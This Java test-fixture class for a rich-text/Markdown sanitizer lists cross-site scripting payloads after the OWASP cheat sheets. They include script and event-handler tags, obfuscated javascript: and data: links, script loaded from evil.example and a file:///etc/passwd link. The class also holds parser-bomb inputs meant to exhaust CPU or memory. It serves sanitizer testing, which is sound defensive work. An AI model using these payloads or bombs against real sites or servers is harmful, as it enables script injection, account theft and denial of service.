package fr.essaim.shared.richtext;

import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What people try in order to run scripts in the page of others, or to keep a server busy. */
final class Attacks {
    /** The most characters that the fields of these tests take. */
    static final int MAX = 20_000;

    private Attacks() {}

    /** After the OWASP cheat sheets on cross-site scripting and on the evasion of its filters. */
    static List<String> scripts() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert&#40;1&#41;</script></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<body onload=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<style>@import'http://evil.example/x.css';</style>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "\n\n<div>\n<script>alert(1)</script>\n</div>\n\n",
                "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
                "| a |\n|---|\n| <script>alert(1)</script> |",
                "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
                "`<script>alert(1)</script>`",
                "    </code><script>alert(1)</script>",
                "# <script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script\\>alert(1)\\</script\\>",
                "**<script>**alert(1)</script>",
                "[x](https://example.org \"onmouseover=alert(1) \\\"><script>alert(1)</script>\")",
                "![<script>alert(1)</script>](/files/1 \"\\\" onerror=alert(1)\")",
                "[x](/a\"onmouseover=\"alert(1))",
                "[<img src=x onerror=alert(1)>](https://example.org)",
                "<https://example.org/\"onmouseover=alert(1)>",
                "<a@b.example\"onclick=alert(1)>",
                "[x](\u0001javascript:alert(1))",
                "[x](java\u0000script:alert(1))");
    }

    static List<String> unsafeLinks() {
        return List.of(
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](  javascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](<javascript:alert(1) //>)",
                "[x](javascript&#58;alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
                "[x](&#x1;javascript:alert(1))",
                "[x](java&Tab;script:alert(1))",
                "[x](java&NewLine;script:alert(1))",
                "[x](javascript\\:alert(1))",
                "[x](\u200bjavascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](DATA:text/html,<script>alert(1)</script>)",
                "[x](file:///etc/passwd)",
                "[x](ftp://example.org)",
                "[x](blob:https://example.org/1)",
                "[x](intent:#Intent;end)",
                "[x](//evil.example/x)",
                "[x](/\\\\evil.example/x)",
                "[x](\\\\\\\\evil.example)",
                "[x](https:evil.example)",
                "[x](https:/evil.example)",
                "[x](https://essaim.example.org@evil.example/)",
                "[x](https://)",
                "[x](mailto:)",
                "[x](<https://example.org/\u202ecod.exe>)",
                "[x][1]\n\n[1]: javascript:alert(1)",
                "[1]\n\n[1]: <data:text/html,x>",
                "![alternative](/files/1 \"t\") and [x](javascript:alert(1) \"title\")",
                "[x]()");
    }

    static List<String> foreignImages() {
        return List.of(
                "![pixel](https://tracker.example/1.gif)",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![x](//evil.example/1.png)",
                "![x]()",
                "![x][i]\n\n[i]: http://evil.example/1.png");
    }

    /** Short texts that a careless parser makes long work or huge documents of. */
    static Map<String, String> bombs() {
        return Map.ofEntries(
                Map.entry("quotes", ">".repeat(MAX)),
                Map.entry("lists in lists", "* - ".repeat(MAX / 4)),
                Map.entry("deeper lines", deeper("> ")),
                Map.entry("deeper lists", deeper("  ") + "- x"),
                Map.entry("staircase", staircase()),
                Map.entry("open brackets", "[".repeat(MAX)),
                Map.entry("images", "![".repeat(MAX / 2)),
                Map.entry("nested links", "[".repeat(6_000) + "a" + "](b)".repeat(3_500)),
                Map.entry("unfinished links", "[a](".repeat(MAX / 4)),
                Map.entry("angle links", "[a](<b".repeat(MAX / 6)),
                Map.entry("stars", "*".repeat(MAX)),
                Map.entry("emphasis", "*a ".repeat(MAX / 3)),
                Map.entry("nested emphasis", "*a **a ".repeat(2_000) + "b** b* ".repeat(800)),
                Map.entry("underscores", "a_".repeat(MAX / 2)),
                Map.entry("mixed emphasis", "*_".repeat(MAX / 4) + "a" + "_*".repeat(MAX / 4)),
                Map.entry("backticks", backticks()),
                Map.entry("comments", "<!--".repeat(MAX / 4)),
                Map.entry("instructions", "<?".repeat(MAX / 2)),
                Map.entry("declarations", "<!A ".repeat(MAX / 4)),
                Map.entry("angles", "<".repeat(MAX)),
                Map.entry("tags", "<a b=".repeat(MAX / 5)),
                Map.entry("addresses", "http://a.b".repeat(MAX / 10)),
                Map.entry("mail addresses", "a@".repeat(MAX / 2)),
                Map.entry("dots", "www." + "a.".repeat(MAX / 2 - 2)),
                Map.entry("wide table", "|a".repeat(3_000) + "|\n" + "|-".repeat(3_000) + "|\n" + "|\n".repeat(3_900)),
                Map.entry(
                        "wide quoted table",
                        "> " + "|a".repeat(99) + "|\n> " + "|-".repeat(99) + "|\n" + "> |\n".repeat(4_800)),
                Map.entry(
                        "wide table of carriage returns",
                        "|a".repeat(3_000) + "|\r" + "|-".repeat(3_000) + "|\r" + "|\r".repeat(3_900)),
                Map.entry("inner spaces", "a" + " ".repeat(MAX - 2) + "b"),
                Map.entry("many tables", "a|b\n-|-\n\n".repeat(MAX / 9)),
                Map.entry("table or not", "a|b\n".repeat(MAX / 4)),
                Map.entry("rows", "a|b\n-|-\n" + "|\n".repeat(9_000)),
                Map.entry("references", "[a]: /" + "u".repeat(9_000) + "\n\n" + "[a] ".repeat(2_500)),
                Map.entry(
                        "definitions",
                        IntStream.range(0, 2_000)
                                .mapToObj(i -> "[" + i + "]: x")
                                .collect(Collectors.joining("\n"))),
                Map.entry("one label", "[a]: x\n".repeat(2_800)),
                Map.entry("long label", "[" + "a".repeat(998) + "]: x\n" + "[a".repeat(9_000)),
                Map.entry("entities", "&amp".repeat(MAX / 4)),
                Map.entry("hash", "# ".repeat(MAX / 2)),
                Map.entry("fences", "```\n".repeat(MAX / 4)),
                Map.entry("setext", "a\n=\n".repeat(MAX / 4)),
                Map.entry("empty lines", "\n".repeat(MAX)),
                Map.entry("spaces", " ".repeat(MAX - 1) + "a"),
                Map.entry("tabs", "\t>".repeat(MAX / 2)),
                Map.entry("rules", "---\n".repeat(MAX / 4)),
                Map.entry("combining", "e" + "\u0301".repeat(MAX - 1)),
                Map.entry("surrogates", "\ud83d".repeat(MAX)));
    }

    /** Those that would become huge documents: they are refused. */
    static List<String> worstBombs() {
        return List.of(
                "quotes",
                "lists in lists",
                "wide table",
                "wide table of carriage returns",
                "wide quoted table",
                "references",
                "nested emphasis");
    }

    private static String deeper(String step) {
        return IntStream.range(0, 140)
                .mapToObj(i -> step.repeat(i) + "- x\n")
                .collect(Collectors.joining())
                .substring(0, MAX - 4);
    }

    private static String staircase() {
        return IntStream.range(0, 190).mapToObj(i -> " ".repeat(i) + "-\n").collect(Collectors.joining());
    }

    private static String backticks() {
        return IntStream.range(1, 195).mapToObj(i -> "`".repeat(i) + "a").collect(Collectors.joining());
    }
}
